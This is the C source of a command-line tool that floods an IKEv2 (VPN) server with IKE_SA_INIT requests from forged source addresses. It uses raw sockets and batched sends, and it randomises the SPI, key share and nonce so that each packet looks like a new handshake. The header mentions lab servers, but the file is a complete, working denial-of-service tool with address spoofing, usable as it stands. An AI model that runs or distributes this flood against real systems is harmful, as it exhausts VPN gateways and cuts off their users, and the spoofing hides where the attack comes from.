/*
 * A flood of IKE_SA_INIT requests with forged sources, as fast as the machine goes:
 *
 *   flood PREFIX/LENGTH DESTINATION COUNT SECONDS SEED
 *
 * Each request has a random SPI, key and nonce, and asks for what the lab's servers accept, so a server that
 * is not on its guard takes it up. With a LENGTH below 32 the source address is random within the prefix and
 * the source port is 500; with 32 the address is one and the port random. It ends after COUNT requests or
 * SECONDS, whichever comes first, and prints "SENT SECONDS": how many, and how long they took.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH     64
#define IKE_PORT  500
#define KEY_LEN   32 /* Curve25519, RFC 8031 */
#define NONCE_LEN 32

/* IKE_SA_INIT, RFC 7296 sections 1.2 and 3: header, SA (AES-128-CBC, HMAC-SHA2-256, Curve25519), KE, Nonce.
 */
static const uint8_t head[] = {
    0,  0,    0,  0,           0, 0,  0, 0, /* SPIi: filled in */
    0,  0,    0,  0,           0, 0,  0, 0, /* SPIr */
    33, 0x20, 34, 0x08,        0, 0,  0, 0, /* SA next, version 2.0, IKE_SA_INIT, initiator, id 0 */
    0,  0,    0,  0,                        /* length: filled in */
    34, 0,    0,  48,          0, 0,  0, 44, 1,    1,  0, 4,   /* SA: one proposal for IKE, four transforms */
    3,  0,    0,  12,          1, 0,  0, 12, 0x80, 14, 0, 128, /* ENCR_AES_CBC, 128 bits */
    3,  0,    0,  8,           2, 0,  0, 5,                    /* PRF_HMAC_SHA2_256 */
    3,  0,    0,  8,           3, 0,  0, 12,                   /* AUTH_HMAC_SHA2_256_128 */
    0,  0,    0,  8,           4, 0,  0, 31,                   /* Curve25519 */
    40, 0,    0,  8 + KEY_LEN, 0, 31, 0, 0,                    /* KE; the key follows */
};
static const uint8_t nonce_head[] = {0, 0, 0, 4 + NONCE_LEN};

#define SPI_LEN   8
#define LENGTH_AT 24
#define KEY_AT    sizeof head
#define NONCE_AT  (KEY_AT + KEY_LEN + sizeof nonce_head)
#define IKE_LEN   (NONCE_AT + NONCE_LEN)
#define UDP_AT    sizeof(struct iphdr)
#define IKE_AT    (UDP_AT + sizeof(struct udphdr))
#define PACKET    (IKE_AT + IKE_LEN)

struct flood {
    uint32_t prefix; /* host order, like the mask */
    uint32_t mask;
    struct in_addr destination;
    uint64_t count;
    double seconds;
    uint64_t dice;
};

struct batch {
    uint8_t packets[BATCH][PACKET];
    struct iovec iovs[BATCH];
    struct mmsghdr msgs[BATCH];
    struct sockaddr_in to;
};

static void die(const char *what)
{
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static double now_s(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* SplitMix64: any seed will do, and the same seed makes the same flood. */
static uint64_t roll(struct flood *f)
{
    uint64_t z = f->dice += 0x9e3779b97f4a7c15U;

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9U;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebU;
    return z ^ (z >> 31);
}

static void roll_bytes(struct flood *f, uint8_t *to, size_t len)
{
    for (size_t at = 0; at < len; at += sizeof(uint64_t)) {
        const uint64_t word = roll(f);
        memcpy(to + at, &word, sizeof word);
    }
}

/* What all packets have in common. The kernel fills in length, identification and checksum of the IP header;
 * UDP goes without a checksum. */
static void batch_init(struct batch *b, const struct flood *f)
{
    const struct iphdr ip = {
        .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .daddr = f->destination.s_addr};
    const struct udphdr udp = {.dest = htons(IKE_PORT), .len = htons(PACKET - UDP_AT)};
    const uint32_t ike_len = htonl(IKE_LEN);

    b->to = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr = f->destination};
    for (size_t i = 0; i < BATCH; i++) {
        uint8_t *p = b->packets[i];
        memcpy(p, &ip, sizeof ip);
        memcpy(p + UDP_AT, &udp, sizeof udp);
        memcpy(p + IKE_AT, head, sizeof head);
        memcpy(p + IKE_AT + LENGTH_AT, &ike_len, sizeof ike_len);
        memcpy(p + IKE_AT + NONCE_AT - sizeof nonce_head, nonce_head, sizeof nonce_head);
        b->iovs[i] = (struct iovec){p, PACKET};
        b->msgs[i].msg_hdr = (struct msghdr){
            .msg_name = &b->to, .msg_namelen = sizeof b->to, .msg_iov = &b->iovs[i], .msg_iovlen = 1};
    }
}

static void forge(uint8_t *packet, struct flood *f)
{
    const uint64_t dice = roll(f);
    const bool one_address = f->mask == UINT32_MAX;
    const uint32_t source = htonl(f->prefix | ((uint32_t)dice & ~f->mask));
    const uint16_t port = htons(one_address ? (uint16_t)(1024 + (dice >> 32) % (65536 - 1024)) : IKE_PORT);

    memcpy(packet + offsetof(struct iphdr, saddr), &source, sizeof source);
    memcpy(packet + UDP_AT + offsetof(struct udphdr, source), &port, sizeof port);
    roll_bytes(f, packet + IKE_AT, SPI_LEN);
    packet[IKE_AT] |= 1; /* An SPI is never zero. */
    roll_bytes(f, packet + IKE_AT + KEY_AT, KEY_LEN);
    roll_bytes(f, packet + IKE_AT + NONCE_AT, NONCE_LEN);
}

static void run(struct flood *f)
{
    static struct batch batch;
    const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    uint64_t sent = 0;

    if (fd < 0)
        die("raw socket");
    batch_init(&batch, f);
    const double start = now_s();
    while (sent < f->count && now_s() - start < f->seconds) {
        const uint64_t left = f->count - sent;
        const unsigned n = left < BATCH ? (unsigned)left : BATCH;
        for (unsigned i = 0; i < n; i++)
            forge(batch.packets[i], f);
        const int done = sendmmsg(fd, batch.msgs, n, 0);
        if (done < 0 && errno != ENOBUFS && errno != EINTR)
            die("sendmmsg");
        sent += done > 0 ? (uint64_t)done : 0;
    }
    printf("%llu %.3f\n", (unsigned long long)sent, now_s() - start);
}

/* PREFIX/LENGTH; false if it is none. */
static bool parse_prefix(const char *text, struct flood *f)
{
    char address[INET_ADDRSTRLEN];
    const char *slash = strchr(text, '/');
    struct in_addr a;

    if (!slash || (size_t)(slash - text) >= sizeof address)
        return false;
    memcpy(address, text, (size_t)(slash - text));
    address[slash - text] = '\0';
    const int length = atoi(slash + 1);
    if (length < 1 || length > 32 || inet_pton(AF_INET, address, &a) != 1)
        return false;
    f->mask = UINT32_MAX << (32 - length);
    f->prefix = ntohl(a.s_addr) & f->mask;
    return true;
}

int main(int argc, char **argv)
{
    struct flood f = {0};

    if (argc != 6 || !parse_prefix(argv[1], &f) || inet_pton(AF_INET, argv[2], &f.destination) != 1) {
        fputs("flood: wrong usage; see the head of its source\n", stderr);
        return 2;
    }
    f.count = strtoull(argv[3], NULL, 10);
    f.seconds = atof(argv[4]);
    f.dice = strtoull(argv[5], NULL, 10);
    run(&f);
    return 0;
}
